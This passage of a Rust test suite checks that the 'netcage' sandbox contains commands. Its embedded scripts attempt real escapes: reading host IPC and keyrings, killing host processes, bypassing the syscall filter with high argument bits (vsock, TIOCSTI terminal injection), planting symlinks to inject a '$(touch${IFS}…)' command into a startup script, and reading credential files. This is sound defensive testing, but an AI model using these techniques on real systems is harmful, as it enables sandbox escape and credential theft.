            libc::shmdt(addr);
            v
        }
    }

    /// The queue's messages, taken off it.
    fn messages(&self) -> Vec<Vec<u8>> {
        let mut got = Vec::new();
        loop {
            let mut msg = MsgBuf {
                mtype: 0,
                mtext: [0; 64],
            };
            // SAFETY: receives into a buffer of the declared size, without waiting.
            let n = unsafe {
                libc::msgrcv(
                    self.msqid,
                    &mut msg as *mut MsgBuf as *mut libc::c_void,
                    64,
                    0,
                    libc::IPC_NOWAIT,
                )
            };
            if n < 0 {
                return got;
            }
            got.push(msg.mtext[..n as usize].to_vec());
        }
    }
}

impl Drop for HostIpc {
    fn drop(&mut self) {
        // SAFETY: removes this test's own objects.
        unsafe {
            libc::shmctl(self.shmid, libc::IPC_RMID, std::ptr::null_mut());
            libc::msgctl(self.msqid, libc::IPC_RMID, std::ptr::null_mut());
        }
        let _ = std::fs::remove_file(&self.shm_file);
    }
}

/// A SysV shared memory segment and message queue the test makes on the host (mode 0666,
/// so only the IPC namespace stands in the way), and a file in the host's /dev/shm: the
/// command finds none of them by key, by id or by name, and afterwards the segment holds
/// its bytes, the queue its message and the file its content.
#[test]
fn sysv_ipc_and_posix_shm_are_the_sandboxs_own() {
    let mut tally = Tally::new("ipc", TALLIED_TESTS);
    const SCRIPT: &str = r#"
key, shmid, msqid, shm_file = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
libc.shmget.restype = ctypes.c_int
libc.shmat.restype = ctypes.c_void_p
libc.msgrcv.restype = ctypes.c_long
out, loot = {}, b""
def errname():
    return errno.errorcode.get(ctypes.get_errno(), "?")
r = libc.shmget(ctypes.c_int(key), ctypes.c_size_t(0), 0)
out["shmget by key"] = "ok" if r >= 0 else errname()
for name, ident in [("shmat host id", shmid)] + [("shmat id %d" % i, i) for i in range(0, 8)]:
    addr = libc.shmat(ident, None, 0o10000)  # SHM_RDONLY
    if addr is None or addr == ctypes.c_void_p(-1).value:
        out[name] = errname()
    else:
        out[name] = "attached"
        loot += ctypes.string_at(addr, 64)
r = libc.msgget(ctypes.c_int(key), 0)
out["msgget by key"] = "ok" if r >= 0 else errname()
buf = ctypes.create_string_buffer(8 + 64)
for name, ident in [("msgrcv host id", msqid)] + [("msgrcv id %d" % i, i) for i in range(0, 8)]:
    n = libc.msgrcv(ident, buf, 64, 0, 0o4000 | 0o20000)  # IPC_NOWAIT | MSG_NOERROR
    out[name] = errname() if n < 0 else "received"
    if n >= 0:
        loot += buf.raw
for f in ["/proc/sysvipc/shm", "/proc/sysvipc/msg"]:
    loot += open(f, "rb").read()
out["dev/shm"] = os.listdir("/dev/shm")
try:
    loot += open(shm_file, "rb").read()
    out["read shm file"] = "ok"
except OSError as e:
    out["read shm file"] = en(e)
try:
    open(shm_file, "w").write("overwritten from the sandbox")
    out["write shm file"] = "ok"
except OSError as e:
    out["write shm file"] = en(e)
out["loot"] = loot.decode("latin1")
print(json.dumps(out))
"#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let mark = marker("ipc");
        let ipc = HostIpc::new(mode, &mark);
        let script = with_sc(SCRIPT);
        let out = run(&mut py(
            &fx,
            &script,
            &[
                &ipc.key.to_string(),
                &ipc.shmid.to_string(),
                &ipc.msqid.to_string(),
                ipc.shm_file.to_str().unwrap(),
            ],
        ));
        let res = stdout_json(&out);
        assert!(
            free_of(&printed(&out), mark.as_bytes()),
            "ESCAPED [{}]: the command read the host's IPC objects: {res}",
            mode.name()
        );
        for step in ["shmget by key", "msgget by key"] {
            assert_eq!(res[step], "ENOENT", "[{}] {step}: {res}", mode.name());
        }
        assert_eq!(res["read shm file"], "ENOENT", "{res}");
        assert_eq!(
            ipc.shm(mark.len()),
            mark.as_bytes(),
            "[{}] the host's segment changed",
            mode.name()
        );
        tally.blocked(
            mode,
            "reaching the host's SysV shared memory by key and by id",
        );
        assert_eq!(
            ipc.messages(),
            vec![mark.as_bytes().to_vec()],
            "ESCAPED [{}]: the host's message queue lost its message: {res}",
            mode.name()
        );
        tally.blocked(mode, "taking a message off the host's SysV queue");
        assert_eq!(
            std::fs::read_to_string(&ipc.shm_file).unwrap(),
            mark,
            "[{}] /dev/shm",
            mode.name()
        );
        tally.blocked(
            mode,
            "reading and overwriting a file in the host's /dev/shm",
        );
    });
    tally.finish();
}

// ---------------------------------------------------------------------------------------
// 7. Kernel keyrings
// ---------------------------------------------------------------------------------------

/// Outside: joins a new session keyring, links uid 0's user keyring into it, adds a key to
/// each, runs netcage (argv[3:]) with their ids in `T1_KEYS`, then reads the keys back.
const KEYRING_WRAPPER: &str = r#"
import ctypes, json, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
L = ctypes.c_long
desc, payload, cmd = sys.argv[1].encode(), sys.argv[2].encode(), sys.argv[3:]
libc.syscall(L(250), L(1), None)  # KEYCTL_JOIN_SESSION_KEYRING: a new anonymous one
libc.syscall(L(250), L(8), L(-4), L(-3))  # KEYCTL_LINK @u into @s: its keys are possessed
keys = [libc.syscall(L(248), b"user", desc, payload, L(len(payload)), L(-3)),
        libc.syscall(L(248), b"user", desc + b"-u", payload, L(len(payload)), L(-4))]
env = dict(os.environ, T1_KEYS=" ".join(str(k) for k in keys), T1_KEY_DESC=desc.decode())
p = subprocess.run(cmd, env=env, capture_output=True, timeout=60)
after = []
for k in keys:
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(L(250), L(11), L(k), buf, L(256))  # KEYCTL_READ
    after.append(buf.raw[:n].decode() if n > 0 else "")
    libc.syscall(L(250), L(9), L(k), L(-4))  # KEYCTL_UNLINK from @u
    libc.syscall(L(250), L(3), L(k))  # KEYCTL_REVOKE
print(json.dumps({"keys": keys, "status": p.returncode, "inside": p.stdout.decode(errors="replace"),
                  "stderr": p.stderr.decode(errors="replace"), "after": after}))
"#;

/// A key the test adds to the session keyring netcage inherits, and one in uid 0's user
/// keyring (linked into that session, so possessed by whatever inherits it): inside, `keyctl` (read, describe, the session and user keyrings' ids),
/// `add_key` and `request_key` fail with EPERM, `/proc/keys` shows no payload, and
/// afterwards the key still reads back outside. Without the sandbox's fresh session keyring
/// and filter, the command would possess the session key and read it.
#[test]
fn kernel_keyrings_are_out_of_reach() {
    let mut tally = Tally::new("keyrings", TALLIED_TESTS);
    const INSIDE: &str = r#"
keys = [int(k) for k in os.environ["T1_KEYS"].split()]
desc = os.environ["T1_KEY_DESC"].encode()
out, buf = {}, ctypes.create_string_buffer(256)
read = b""
for k in keys:
    out["read %d" % k] = sc(250, 11, k, buf, 256)
    read += buf.raw
    out["describe %d" % k] = sc(250, 6, k, buf, 256)
out["session keyring id"] = sc(250, 0, -3, 0)
out["user keyring id"] = sc(250, 0, -4, 0)
out["search"] = sc(250, 10, -3, b"user", desc, 0)
out["add_key"] = sc(248, b"user", b"planted", b"x", 1, -3)
out["request_key"] = sc(249, b"user", desc, None, 0)
out["buf"] = (read + buf.raw).decode("latin1")
out["proc_keys"] = open("/proc/keys").read()
print(json.dumps(out))
"#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let payload = marker("key-payload");
        let desc = format!("netcage-t1-{:08x}", rand::random::<u32>());
        let inner = py(&fx, &with_sc(INSIDE), &[]);
        let mut cmd = Command::new("/usr/bin/python3");
        cmd.arg("-c")
            .arg(KEYRING_WRAPPER)
            .arg(&desc)
            .arg(&payload)
            .arg(inner.get_program())
            .args(inner.get_args());
        for (k, v) in inner.get_envs() {
            match v {
                Some(v) => cmd.env(k, v),
                None => cmd.env_remove(k),
            };
        }
        cmd.current_dir(fx.env.root());
        let wrapper = run(&mut cmd);
        let report = stdout_json(&wrapper);
        let inside_text = report["inside"].as_str().unwrap_or("");
        let res: Value = serde_json::from_str(inside_text.trim())
            .unwrap_or_else(|_| panic!("[{}] no report from inside: {report}", mode.name()));
        assert!(
            !inside_text.contains(&payload),
            "ESCAPED [{}]: the command read a key of the session or user keyring: {res}",
            mode.name()
        );
        for (step, outcome) in res.as_object().unwrap() {
            if step != "buf" && step != "proc_keys" {
                assert_eq!(outcome, "EPERM", "[{}] {step}: {res}", mode.name());
            }
        }
        tally.blocked(
            mode,
            "keyctl read/describe/search of the inherited session key",
        );
        tally.blocked(mode, "add_key and request_key");
        assert!(!res["proc_keys"].as_str().unwrap().contains(&payload));
        if res["proc_keys"].as_str().unwrap().contains(&desc) {
            eprintln!(
                "  note [{}]: /proc/keys inside lists the host key's description (not its payload)",
                mode.name()
            );
        }
        tally.blocked(mode, "finding the payload in /proc/keys");
        // The keys are still there, unchanged, for the wrapper outside.
        let after = report["after"].as_array().unwrap();
        assert!(
            !after.is_empty() && after.iter().all(|a| a == &json!(payload)),
            "{report}"
        );
    });
    tally.finish();
}

// ---------------------------------------------------------------------------------------
// 8. Signals
// ---------------------------------------------------------------------------------------

/// netcage is started by a shell that also has a victim process (`sleep`) in its process
/// group, with pipes and under a terminal. Inside, the command kills the victim's and the shell's host pids and groups,
/// every pid and group number up to 300, pid 1 (SIGTERM, SIGKILL), `-1`, and finally its own
/// group (`kill 0`), which does kill it — the control. Outside: the victim and the shell are
/// alive afterwards, and netcage reports the command killed by SIGKILL.
#[test]
fn signals_never_leave_the_sandbox() {
    let mut tally = Tally::new("signals", TALLIED_TESTS);
    const INSIDE: &str = r#"
import errno, json, os, signal, time
def k(pid, sig=signal.SIGKILL):
    try:
        os.kill(pid, sig)
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, "?")
me, group = os.getpid(), os.getpgrp()
victim, shell = int(os.environ["T1_VICTIM"]), int(os.environ["T1_SHELL"])
out = {}
for name, target in [("victim", victim), ("shell", shell), ("victim group", -victim), ("shell group", -shell)]:
    out[name] = "self" if abs(target) in (me, group) else k(target)
hits = []
for n in range(2, 300):
    if n in (me, group):
        continue
    for target in (n, -n):
        if k(target) == "ok":
            hits.append(target)
out["guessed hits"] = hits
out["init SIGTERM"] = k(1, signal.SIGTERM)
out["init SIGKILL"] = k(1)
# init's group is netcage's, outside this pid namespace: getpgid says 0 (kill(0) is below).
out["init group"] = os.getpgid(1)
out["all (-1)"] = k(-1)
time.sleep(0.3)  # had init died, the pid namespace would have taken this process with it
print(json.dumps(out), flush=True)
os.kill(0, signal.SIGKILL)
"#;
    const OUTER: &str = r#"
sleep 300 & victim=$!
echo "victim=$victim"
T1_VICTIM=$victim T1_SHELL=$$ "$@"
echo "netcage=$?"
if kill -0 "$victim" 2>/dev/null; then echo "victim alive"; else echo "victim dead"; fi
kill "$victim"
echo "shell alive"
"#;
    for_each_mode(|mode| {
        for on_terminal in [false, true] {
            // Without a terminal the command gets a session of its own; on one (netcage's
            // controlling terminal) it stays in netcage's session, in a group of its own.
            let case = if on_terminal {
                "on a terminal"
            } else {
                "without a terminal"
            };
            let fx = Fx::new(mode);
            let cmd = shell_around(&fx, "/bin/sh", OUTER, &["python3", "-c", INSIDE]);
            let text = if on_terminal {
                pty_text(&cmd).replace('\r', "")
            } else {
                let mut cmd = cmd;
                let out = run(&mut cmd);
                format!(
                    "{}{}",
                    stdout_str(&out),
                    String::from_utf8_lossy(&out.stderr)
                )
            };
            let why = format!("[{}] {case}:\n{text}", mode.name());
            assert!(
                text.contains("victim alive"),
                "ESCAPED — the victim outside was killed: {why}"
            );
            tally.blocked(
                mode,
                &format!("{case}: killing a process outside by pid, group, kill(-1) or kill(0)"),
            );
            assert!(
                text.contains("shell alive"),
                "ESCAPED — the shell outside was killed: {why}"
            );
            tally.blocked(
                mode,
                &format!("{case}: killing the shell that started netcage"),
            );
            let res: Value = text
                .lines()
                .find_map(|l| serde_json::from_str(l.trim()).ok())
                .unwrap_or_else(|| panic!("no report: {why}"));
            assert!(res["guessed hits"].as_array().unwrap().is_empty(), "{res}");
            // The command's own kill(0) did end it: signals work, they just stay inside.
            assert!(
                text.contains("netcage=137"),
                "the command was not killed by its own kill(0): {why}"
            );
            // The report came after the attempts on init: the pid namespace, and init, lived.
            tally.blocked(mode, &format!("{case}: killing the sandbox's init (pid 1)"));
        }
    });
    tally.finish();
}

// ---------------------------------------------------------------------------------------
// 9. vsock and the refused syscalls
// ---------------------------------------------------------------------------------------

/// Each refused syscall with arguments the kernel itself would not refuse with EPERM (a bad
/// command, a NULL pointer, a flag that works unprivileged), so that EPERM can only come from
/// the filter; then fork, threads and a subprocess.
const SYSCALL_SCRIPT: &str = r#"
import subprocess, threading
out = {}
out["socket(AF_VSOCK, STREAM)"] = sc(41, 40, 1, 0)
out["socket(AF_VSOCK, DGRAM)"] = sc(41, 40, 2, 0)
try:
    import socket
    socket.socket(40, socket.SOCK_STREAM)
    out["python socket(AF_VSOCK)"] = "ok"
except OSError as e:
    out["python socket(AF_VSOCK)"] = en(e)
out["bpf"] = sc(321, 9999, None, 0)
out["perf_event_open"] = sc(298, None, 0, -1, -1, 0)
out["userfaultfd"] = sc(323, 1)  # UFFD_USER_MODE_ONLY: allowed unprivileged
out["io_uring_setup"] = sc(425, 1, None)
out["keyctl"] = sc(250, 0, -3, 0)
out["add_key"] = sc(248, None, None, None, 0, -3)
out["request_key"] = sc(249, None, None, None, 0)
out["setns"] = sc(308, -1, 0)
out["open_tree"] = sc(428, -1, b"", 0)
out["mount_setattr"] = sc(442, -1, b"", 0, None, 0)
out["chroot"] = sc(161, None)
out["clone3"] = sc(435, None, 0)
def in_child(name, nr, *args):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(w, sc(nr, *args).encode())
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    out[name] = os.read(r, 100).decode()
CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x20000, 17
in_child("unshare(CLONE_NEWUSER)", 272, CLONE_NEWUSER)
in_child("unshare(CLONE_NEWUSER|CLONE_NEWNS)", 272, CLONE_NEWUSER | CLONE_NEWNS)
def raw_clone():
    libc.syscall.restype = ctypes.c_long
    ctypes.set_errno(0)
    pid = libc.syscall(ctypes.c_long(56), ctypes.c_long(CLONE_NEWUSER | SIGCHLD), None, None, None, ctypes.c_long(0))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), "?")
out["clone(CLONE_NEWUSER)"] = raw_clone()
ctl = {}
pid = os.fork()
if pid == 0:
    os._exit(7)
ctl["fork"] = os.WEXITSTATUS(os.waitpid(pid, 0)[1])
got = []
t = threading.Thread(target=lambda: got.append(threading.get_native_id()))
t.start(); t.join()
ctl["thread"] = len(got)
ctl["subprocess"] = subprocess.run(["sh", "-c", "exit 3"]).returncode
print(json.dumps({"refused": out, "controls": ctl}))
"#;

/// vsock (`socket(AF_VSOCK)`, created and never connected) and every syscall of the filter's
/// table the kernel would otherwise allow: EPERM (clone3: ENOSYS, so that libc falls back
/// to clone). The same script run outside the sandbox, as the same user, is the control: there
/// none of them gets EPERM. fork, threads and subprocesses still work.
#[test]
fn vsock_and_the_refused_syscalls_fail_and_fork_and_threads_work() {
    let mut tally = Tally::new("syscalls", TALLIED_TESTS);
    let script = with_sc(SYSCALL_SCRIPT);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let out = run(&mut py(&fx, &script, &[]));
        let inside = stdout_json(&out);
        let mut control = fx.as_user(Path::new("/usr/bin/python3"));
        control.arg("-c").arg(&script);
        let outside = stdout_json(&run(&mut control));
        for (name, got) in inside["refused"].as_object().unwrap() {
            let want = if name == "clone3" { "ENOSYS" } else { "EPERM" };
            assert_eq!(
                got,
                want,
                "ESCAPED [{}]: {name} was not refused in the sandbox: {inside}",
                mode.name()
            );
            let free = &outside["refused"][name];
            assert!(
                free != "EPERM" && free != "ENOSYS",
                "[{}] {name} gets {free} outside the sandbox too, so the test cannot tell the \
                 filter's refusal apart: {outside}",
                mode.name()
            );
            tally.blocked(mode, name);
        }
        assert_eq!(
            inside["controls"],
            json!({"fork": 7, "thread": 1, "subprocess": 3}),
            "{inside}"
        );
    });
    tally.finish();
}

/// Attack (once an escape): the filter compares the full 64-bit register, but `socket()` takes an `int`
/// domain: the kernel ignores the upper 32 bits. `socket(0x1_0000_0028, …)` passes the
/// filter's `== AF_VSOCK` test and creates an AF_VSOCK socket, a way to the hypervisor
/// around the network namespace. (The socket is only created and checked, never connected.)
#[test]
fn vsock_cannot_be_had_with_high_bits_in_the_domain() {
    const SCRIPT: &str = r#"
import socket
fd = libc.syscall(ctypes.c_long(41), ctypes.c_long(0x100000028), ctypes.c_long(1), ctypes.c_long(0))
if fd < 0:
    print(json.dumps({"fd": en(OSError(ctypes.get_errno(), ""))}))
else:
    s = socket.socket(fileno=fd)
    print(json.dumps({"fd": fd, "SO_DOMAIN": s.getsockopt(socket.SOL_SOCKET, 39)}))
"#;
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let res = stdout_json(&run(&mut py(&fx, &with_sc(SCRIPT), &[])));
        assert!(
            res["SO_DOMAIN"] != 40,
            "ESCAPED [{}]: the command holds an AF_VSOCK socket: {res}",
            mode.name()
        );
    });
}

/// Attack (once an escape): as for vsock, `ioctl()`'s request is an `unsigned int` to the kernel but a
/// 64-bit value to the filter: `ioctl(0, TIOCSTI | 1 << 32, c)` passes it. Under a
/// terminal (netcage's controlling terminal, shared with the shell that started it), the
/// command pushes a line into the terminal's input; the shell outside reads it after netcage
/// exits — an interactive shell would run it as a command, outside the sandbox.
#[test]
fn the_terminal_cannot_be_fed_with_high_bits_in_the_ioctl_request() {
    const INSIDE: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
for ch in sys.argv[1].encode() + b"\n":
    libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_long(0x100005412),
                 ctypes.create_string_buffer(bytes([ch])))
print("tty", os.isatty(0))
"#;
    const OUTER: &str = r#""$@"; read -t 5 line; echo "outside read: [$line]""#;
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let line = format!("echo INJECTED-{:08x}", rand::random::<u32>());
        let cmd = shell_around(&fx, "/bin/bash", OUTER, &["python3", "-c", INSIDE, &line]);
        let seen = pty_text(&cmd);
        assert!(
            seen.contains("tty True"),
            "[{}] not on a terminal: {seen}",
            mode.name()
        );
        assert!(
            !seen.contains(&format!("outside read: [{line}]")),
            "ESCAPED [{}]: the shell outside read a line the sandbox typed:\n{seen}",
            mode.name()
        );
    });
}

// ---------------------------------------------------------------------------------------
// 10. netcage's own state, the audit log
// ---------------------------------------------------------------------------------------

/// netcage's state dir (`~/.local/share/netcage`: trusted keys, writable directories) and
/// the audit log, with `$HOME` the working directory: the command cannot read or change
/// either (outside: both unchanged, no forged audit line).
#[test]
fn netcage_state_and_audit_log_are_out_of_reach() {
    let mut tally = Tally::new("state", TALLIED_TESTS);
    const SCRIPT: &str = r#"
state="$HOME/.local/share/netcage"
echo "ls=[$(ls -A "$state" 2>&1 | tr '\n' ' ')]"
cat "$state/trust.json"; echo "read=$?"
printf '{"keys":[],"writable":[]}' > "$state/trust.json"; echo "write=$?"
mv "$state" "$state.moved"; echo "mv=$?"
mv "$HOME/.local/share" "$HOME/.local/share.moved"; echo "mv parent=$?"
cat "$1"; echo "audit read=$?"
echo '{"forged":"line"}' >> "$1"; echo "audit write=$?"
"#;
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        // A first run makes the state dir (the fixture's key is vouched for, then trusted).
        let out = run(&mut sh(&fx, "true", &[]));
        assert!(out.status.success(), "{}", describe(&out));
        let trust = fx.env.root().join(".local/share/netcage/trust.json");
        let before = std::fs::read(&trust).expect("netcage's state file after a run");
        let out = run(&mut sh(&fx, SCRIPT, &[fx.audit.to_str().unwrap()]));
        let text = stdout_str(&out);
        assert_eq!(
            std::fs::read(&trust).ok(),
            Some(before),
            "ESCAPED [{}]: trust.json changed or moved: {text}",
            mode.name()
        );
        assert!(
            !text.contains("\"writable\""),
            "[{}] trust.json is readable: {text}",
            mode.name()
        );
        assert!(
            text.contains("ls=[]"),
            "[{}] the state dir is not empty inside: {text}",
            mode.name()
        );
        tally.blocked(mode, "reading and rewriting netcage's trust.json");
        assert!(!fx.env.root().join(".local/share/netcage.moved").exists());
        assert!(!fx.env.root().join(".local/share.moved").exists());
        tally.blocked(mode, "moving the state dir out of the way");
        let audit = std::fs::read_to_string(&fx.audit).unwrap();
        assert!(
            !audit.contains("forged"),
            "ESCAPED [{}]: a forged audit line: {audit}",
            mode.name()
        );
        assert!(
            audit.contains("\"kind\":\"exec\""),
            "the audit log is written: {audit}"
        );
        assert!(
            text.contains("audit read=0\naudit write=") && !text.contains("audit write=0"),
            "{text}"
        );
        assert!(
            !text.contains("\"decision\""),
            "[{}] the audit log is readable inside: {text}",
            mode.name()
        );
        tally.blocked(mode, "reading and forging the audit log");
    });
    tally.finish();
}

/// Attack (once an escape): netcage opens its audit log (`<data dir>/netcage-audit.jsonl` by default) and
/// writes its CA files (`proxy-ca-key.pem`…) following symbolic links. A command whose run
/// used another data dir makes `./.starpod/db` (the default data dir of the next run here)
/// with those names linked to files elsewhere. The next `netcage run` in this directory
/// appends its audit lines — which carry the command's request paths verbatim, inside
/// double quotes — to the first (here a shell start-up script: sourcing it runs a `$(…)` the
/// command put in a path) and overwrites the second with the CA's private key.
#[test]
fn netcage_writes_nothing_through_links_a_command_planted() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let victims = outside_dir(mode, "netcage-victims-");
        let startup = victims.path().join("startup.sh");
        let conf = victims.path().join("precious.conf");
        put(
            mode,
            &startup,
            "# a start-up script outside the sandbox\n",
            0o644,
        );
        put(mode, &conf, "precious = true\n", 0o644);
        let script = r#"mkdir -p .starpod/db && ln -s "$1" .starpod/db/netcage-audit.jsonl && ln -s "$2" .starpod/db/proxy-ca-key.pem; echo "planted=$?"
echo direct >> "$1"; echo "direct write=$?""#;
        let out = run(&mut sh(
            &fx,
            script,
            &[startup.to_str().unwrap(), conf.to_str().unwrap()],
        ));
        let text = stdout_str(&out);
        assert!(
            text.contains("planted=0") && !text.contains("direct write=0"),
            "{text}"
        );
        // The next run here: the default data dir and audit log.
        let flag = fx.env.path("ran-outside");
        let url = fx.url(BOUND, &format!("/$(touch${{IFS}}{})", flag.display()));
        let mut cmd = fx.netcage();
        cmd.args(["run", "--tier", "netns", "--upstream-ca"])
            .arg(&fx.ca_path)
            .args(["--resolve", &format!("{BOUND}=127.0.0.1")])
            .args([
                "--",
                "curl",
                "-sS",
                "--max-time",
                "10",
                "-o",
                "/dev/null",
                &url,
            ]);
        let second = run(&mut cmd);
        let startup_now = std::fs::read_to_string(&startup).unwrap();
        let conf_now = std::fs::read_to_string(&conf).unwrap();
        let _ = Command::new("bash").arg(&startup).output();
        assert!(
            startup_now == "# a start-up script outside the sandbox\n"
                && conf_now == "precious = true\n",
            "ESCAPED [{}]: netcage wrote through the planted links: the start-up script now \
             has {} lines (sourcing it ran the command's $(…): {}), precious.conf now begins \
             {:?}\n{}",
            mode.name(),
            startup_now.lines().count(),
            flag.exists(),
            conf_now.lines().next().unwrap_or(""),
            describe(&second)
        );
    });
}

/// Known gap (README): a credential file is hidden by a mount on its path. Tools replace such files
/// atomically (`docker login` writes `config.json` through a temporary file and a rename;
/// git's credential store renames a lock file over `.git-credentials`); the kernel then
/// drops the mount with the old file, and the new file — the new credentials — is readable
/// in a sandbox that is still running (a `netcage serve`, a long command) when `$HOME` is
/// writable (here the working directory). With `$HOME` elsewhere the layer keeps it hidden.
#[test]
#[ignore = "known gap: a credential file replaced on the host during the run (rename over it) loses its cover"]
fn a_credential_file_replaced_during_the_run_stays_hidden() {
    in_each_mode(|mode| {
        let fx = Fx::new(mode);
        let root = fx.env.root().to_owned();
        let files = [".docker/config.json", ".git-credentials", ".netrc"];
        for f in files {
            put(mode, &root.join(f), "old = hidden\n", 0o600);
        }
        let script = r#"
import os, sys, time
open("ready", "w").close()
deadline = time.time() + 20
while not os.path.exists("go") and time.time() < deadline:
    time.sleep(0.02)
for f in sys.argv[1:]:
    try:
        print(f, open(os.path.expanduser("~/" + f)).read().strip())
    except OSError as e:
        print(f, e)
"#;
        let out_file = fx.env.path("inside.out");
        let mut cmd = py(&fx, script, &files);
        cmd.stdout(std::fs::File::create(&out_file).unwrap())
            .stderr(Stdio::null());
        let mut child = KillOnDrop::spawn(&mut cmd);
        wait_until(RUN_TIMEOUT, "the command to start", || {
            fx.env.path("ready").exists()
        });
        let mut markers = Vec::new();
        for f in files {
            let m = marker("rotated");
            let tmp = root.join(format!("{f}.tmp"));
            put(mode, &tmp, &format!("new = {m}\n"), 0o600);
            std::fs::rename(&tmp, root.join(f)).unwrap();
            markers.push((f, m));
        }
        put(mode, &fx.env.path("go"), "", 0o644);
        let deadline = Instant::now() + RUN_TIMEOUT;
        while child.0.try_wait().unwrap().is_none() {
            assert!(Instant::now() < deadline, "the command did not finish");
            std::thread::sleep(Duration::from_millis(20));
        }
        let inside = std::fs::read_to_string(&out_file).unwrap_or_default();
        let leaked: Vec<&str> = markers
            .iter()
            .filter(|(_, m)| inside.contains(m.as_str()))
            .map(|(f, _)| *f)
            .collect();
        assert!(
            leaked.is_empty(),
            "ESCAPED [{}]: replaced on the host during the run, these became readable inside: \
             {leaked:?}\n{inside}",
            mode.name()
        );
    });
}

/// `netcage serve`'s control socket sits in the working directory: a command started
/// through it connects to it (and to it through `/proc/self/cwd`) and would ask for a command
/// of its own. Outside: serve's audit log shows only the one exec the test asked for, and no
/// other connection; the control is that very exec, which ran.
#[test]
fn the_serve_socket_is_out_of_reach_of_its_commands() {
    let mut tally = Tally::new("serve socket", TALLIED_TESTS);
    for_each_mode(|mode| {
        let fx = Fx::new(mode);
        let sock = fx.env.path("serve.sock");
        let mut serve = fx.netcage();
        serve
            .arg("serve")
            .arg("--socket")
            .arg(&sock)
            .arg("--data-dir")
            .arg(fx.env.data_dir())
            .arg("--audit")
            .arg(&fx.audit)
            .args(["--grace", "1"])
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let _serve = KillOnDrop::spawn(&mut serve);
        wait_until(RUN_TIMEOUT, "serve's socket", || sock.exists());
        let inside_cwd = "/proc/self/cwd/serve.sock";
        let mut exec = fx.netcage();
        exec.arg("exec")
            .arg("--socket")
            .arg(&sock)
            .args(["--", "python3", "-c", CONNECT_SCRIPT])
            .arg(&sock)
            .arg(inside_cwd);
        let out = run(&mut exec);
        let res = stdout_json(&out);
        for p in [sock.to_str().unwrap(), inside_cwd] {
            assert_ne!(
                res[p],
                "connected",
                "ESCAPED [{}]: a command reached serve's socket at {p}: {res}",
                mode.name()
            );
        }
        settle();
        let starts = fx
            .audit_lines()
            .into_iter()
            .filter(|l| l["kind"] == "exec" && l["method"] == "start")
            .count();
        assert_eq!(starts, 1, "[{}] {res}", mode.name());
        tally.blocked(mode, "connecting to netcage serve's control socket");
    });
    tally.finish();
}
